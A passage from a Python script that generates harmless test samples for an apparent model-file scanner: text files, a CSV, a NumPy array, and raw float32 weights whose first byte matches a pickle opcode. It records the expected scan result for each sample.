    "labels.txt": "cow\nsheep\n(goat)\nt\n",
    "README.md": "N.B. these weights are for tests only.\n\n# tiny-mlp\n\nA two-layer MLP, float32.\n",
    "notes.txt": "S'il vous plait\nmerci\n",
    "data.csv": "I,am,a,csv\n1,2,3,4\n",
}
for rel, text in texts.items():
    write(f"{BN}/{rel}", text.encode())
    expect(f"{BN}/{rel}", "clean")

# raw little-endian float32 tensors (1024 values, N(0, 0.02)); the first value is nudged in its last
# mantissa bits so that its first byte is the opcode
rng = random.Random(21)
values = [rng.gauss(0.0, 0.02) for _ in range(1024)]
for tag, op in (("c", b"c"), ("X", b"X"), ("paren", b"("), ("I", b"I")):
    (first,) = struct.unpack("<f", op + struct.pack("<f", values[0])[1:])
    data = struct.pack("<1024f", first, *values[1:])
    assert data[:1] == op and abs(first - values[0]) < 1e-6
    write(f"{BN}/raw_f32_first_{tag}/weights.bin", data)
    # headerless floats are bytes no format accounts for (format/unknown: suspicious, never clean),
    # but no pickle reading may flag them
    expect(f"{BN}/raw_f32_first_{tag}/weights.bin", "suspicious", ["format/unknown"], absentRules=UNPICKLED)

import numpy  # noqa: E402

nbuf = io.BytesIO()
numpy.save(nbuf, numpy.array(values[:256], dtype=numpy.float32))
assert numpy.load(io.BytesIO(nbuf.getvalue()), allow_pickle=False).shape == (256,)
write(f"{BN}/floats.npy", nbuf.getvalue())
expect(f"{BN}/floats.npy", "clean")

# ================================================================= expectations

with open(os.path.join(ROOT, "expected.json"), "w") as f:
    json.dump(dict(sorted(EXPECTED.items())), f, indent=1)
    f.write("\n")
total = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(ROOT) for f in fs)
print(f"samples/bypass: {len(EXPECTED)} samples, {total} bytes", file=sys.stderr)
